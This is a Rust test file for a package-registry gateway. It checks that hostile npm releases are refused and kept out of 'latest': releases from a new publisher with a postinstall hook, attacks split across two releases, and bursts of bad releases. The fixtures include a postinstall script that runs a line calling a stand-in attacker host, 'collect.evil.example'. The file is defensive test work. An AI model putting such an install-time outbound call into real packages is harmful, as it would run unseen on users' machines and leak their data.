//! What an earlier release excuses in a later one: nothing, unless it was found fine here or has been out for
//! long. The second release of an attack is not for whoever asks first.

use serde_json::Value;
use weir_testing::{Package, Registry, Release};

use crate::support::{Gateway, NOW, NPM, World, output};

/// Talks to a host of its own when it is installed.
const COLLECTS: &str = "require('https').get('https://collect.evil.example/x')\n";

/// Talks to an ordinary host when it is used.
const ASKS: &str = "require('https').get('https://api.acme.example/x')\nmodule.exports = 1;\n";

/// Ten releases of a year ago by the usual maintainer, and what came since.
fn package(name: &str, since: impl IntoIterator<Item = Release>) -> Package {
    let past = (0..10).map(|number| {
        Release::new(format!("1.{number}.0"))
            .published(&format!("2025-{:02}-05T09:00:00.000Z", number + 1))
            .publisher("mara")
    });
    Package::new(name)
        .maintainer("mara")
        .releases(past)
        .releases(since)
}

/// A release of somebody new that runs something new.
fn hostile(version: &str, published: &str) -> Release {
    Release::new(version)
        .published(published)
        .publisher("eve")
        .file("x.js", COLLECTS)
        .script("postinstall", "node x.js")
}

fn before(package: Package) -> Registry {
    let registry = Registry::start();
    registry.set_now(NOW);
    registry.add(package);
    registry
}

fn asked(gateway: &Gateway, version: &str) -> (u16, Value) {
    let path = format!("/ledger-copy/-/ledger-copy-{version}.tgz");
    let reply = gateway.get(&path, &[("user-agent", NPM)]);
    match reply.status {
        200 => (200, Value::Null),
        status => (status, reply.json()["weir"]["instead"].clone()),
    }
}

/// Both releases of the attack are kept out of what ranges and tags resolve to.
fn assert_kept_out(gateway: &Gateway) {
    let document = gateway.packument(NPM, "ledger-copy");
    for version in ["1.10.0", "1.10.1"] {
        let marked = &document["versions"][version]["deprecated"];
        assert!(marked.is_string(), "{version}: {marked}");
    }
    assert_eq!(document["dist-tags"]["latest"], "1.9.0");
}

#[test]
fn the_first_to_ask_is_not_served_the_second_release_of_an_attack() {
    for (first, second) in [
        ("2026-11-18T11:00:00.000Z", "2026-11-18T11:10:00.000Z"),
        ("2026-11-18T11:00:00.000Z", "2026-11-18T18:00:00.000Z"),
        ("2026-11-14T11:00:00.000Z", "2026-11-18T18:00:00.000Z"),
    ] {
        let attack = [hostile("1.10.0", first), hostile("1.10.1", second)];
        let registry = before(package("ledger-copy", attack));
        // Whoever pins it, whoever resolves, and whoever only looks.
        let (one, other) = (World::new(), World::new());
        let pinned = one.serve(&registry);
        for version in ["1.10.1", "1.10.0", "1.10.1"] {
            let answer = asked(&pinned, version);
            assert_eq!(answer, (403, "1.9.0".into()), "{version} {first}");
        }
        let resolving = other.serve(&registry);
        assert_kept_out(&resolving);
        let looks = ["inspect", "ledger-copy@1.10.1"];
        let seen = World::new().run_before(&registry, &looks);
        assert!(matches!(seen.code, Some(3 | 4)), "{}", seen.text());
        assert!(!seen.says("Since 1.10.0"), "{}", seen.text());
    }
}

/// Of a moment that is only asked about nothing is kept, and what was refused a moment ago still excuses nothing.
#[test]
fn so_it_is_at_a_moment_that_is_only_asked_about() {
    let attack = [
        hostile("1.10.0", "2026-11-10T20:00:00.000Z"),
        hostile("1.10.1", "2026-11-18T11:10:00.000Z"),
    ];
    let registry = before(package("ledger-copy", attack));
    let world = World::new();
    let mut command = world.weir_asked(&registry, NOW);
    let both = ["ledger-copy@1.10.0", "ledger-copy@1.10.1"];
    let seen = output(command.args(["inspect", "--json"]).args(both));
    for line in seen.stdout.lines() {
        let found: Value = serde_json::from_str(line).unwrap();
        assert_eq!(found["decision"]["instead"], "1.9.0", "{found:#}");
    }
    assert_eq!(seen.stdout.lines().count(), 2, "{}", seen.text());
}

/// The first release has been out for ten days, and nobody had asked for it.
#[test]
fn a_verdict_is_taken_anew_when_what_it_was_measured_by_is_refused() {
    let attack = [
        hostile("1.10.0", "2026-11-10T20:00:00.000Z"),
        hostile("1.10.1", "2026-11-18T11:10:00.000Z"),
    ];
    let registry = before(package("ledger-copy", attack));
    let world = World::new();
    let mut gateway = world.serve(&registry);
    // Served or not: what counts is what follows.
    let _ = asked(&gateway, "1.10.1");
    for version in ["1.10.0", "1.10.1"] {
        // Neither recommends the other.
        assert_eq!(asked(&gateway, version), (403, "1.9.0".into()), "{version}");
    }
    gateway.stop();
    let later = world.serve(&registry);
    assert_eq!(asked(&later, "1.10.1"), (403, "1.9.0".into()));
    // Where nobody asked before, resolving alone finds both.
    let untouched = World::new();
    let fresh = untouched.serve(&registry);
    assert_kept_out(&fresh);
    assert_eq!(asked(&fresh, "1.10.1"), (403, "1.9.0".into()));
}

#[test]
fn a_release_is_recommended_only_if_it_is_known_to_be_fine() {
    let young = [
        hostile("0.1.0", "2026-11-18T11:00:00.000Z"),
        hostile("0.1.1", "2026-11-20T11:10:00.000Z"),
    ];
    let package = Package::new("ledger-copy")
        .maintainer("eve")
        .releases(young);
    let registry = before(package);
    let world = World::new();
    let gateway = world.serve(&registry);
    // 0.1.0 is old enough, and nobody has looked at it.
    let (status, instead) = asked(&gateway, "0.1.1");
    assert_eq!((status, instead), (403, Value::Null));
    let refused = world.ledger(&["--event", "refused"]).pop().unwrap();
    let id = refused["block_id"].as_str().unwrap();
    let told = world.run(&["explain", id]);
    assert!(
        told.says("no release to use instead is named"),
        "{}",
        told.text()
    );
}

/// A hook that does nothing yet, and what it runs once nobody looks: each is worth a notice, and what they come to
/// is held, in whatever order they are asked for. A week later the first is the package's past.
#[test]
fn an_attack_in_two_halves_is_measured_by_what_was_before_both() {
    let half = |version: &str, published: &str, code: &str| {
        Release::new(version)
            .published(published)
            .publisher("mara")
            .file("x.js", code)
            .script("postinstall", "node x.js")
    };
    let first = half("1.10.0", "2026-11-18T11:00:00.000Z", "console.log(1);\n");
    let second = half("1.10.1", "2026-11-18T11:10:00.000Z", COLLECTS);
    let registry = before(package("ledger-copy", [first, second]));
    for order in [["1.10.0", "1.10.1"], ["1.10.1", "1.10.0"]] {
        let world = World::new();
        let gateway = world.serve(&registry);
        for version in order {
            let status = if version == "1.10.1" { 403 } else { 200 };
            assert_eq!(asked(&gateway, version).0, status, "{version} of {order:?}");
        }
        let document = gateway.packument(NPM, "ledger-copy");
        assert_eq!(document["dist-tags"]["latest"], "1.10.0");
    }
}

/// Two patches of the usual maintainer within minutes, of which only the second has something that is worth a
/// notice.
#[test]
fn two_quick_patches_are_no_attack() {
    let first = Release::new("1.10.0")
        .published("2026-11-18T11:00:00.000Z")
        .publisher("mara");
    let second = Release::new("1.10.1")
        .published("2026-11-18T11:10:00.000Z")
        .publisher("mara")
        .file("index.js", ASKS);
    let registry = before(package("ledger-copy", [first, second]));
    let (one, other) = (World::new(), World::new());
    let pinned = one.serve(&registry);
    assert_eq!(asked(&pinned, "1.10.1").0, 200);
    let resolving = other.serve(&registry);
    let document = resolving.packument(NPM, "ledger-copy");
    assert_eq!(document["dist-tags"]["latest"], "1.10.1");
    assert_eq!(asked(&resolving, "1.10.1").0, 200);
}

/// More young releases than are looked at one by one, all refused: the tag goes back to the last good one at once.
#[test]
fn a_burst_of_refused_releases_does_not_lead_the_tag_through_all_of_them() {
    let burst = (0..100).map(|number| {
        let published = format!(
            "2026-11-18T11:{:02}:{:02}.000Z",
            number / 2,
            number % 2 * 30
        );
        hostile(&format!("1.10.{number}"), &published)
    });
    let registry = before(package("ledger-copy", burst));
    let world = World::new();
    let gateway = world.serve(&registry);
    let document = gateway.packument(NPM, "ledger-copy");
    assert_eq!(document["dist-tags"]["latest"], "1.9.0");
    assert_eq!(asked(&gateway, "1.9.0").0, 200);
}
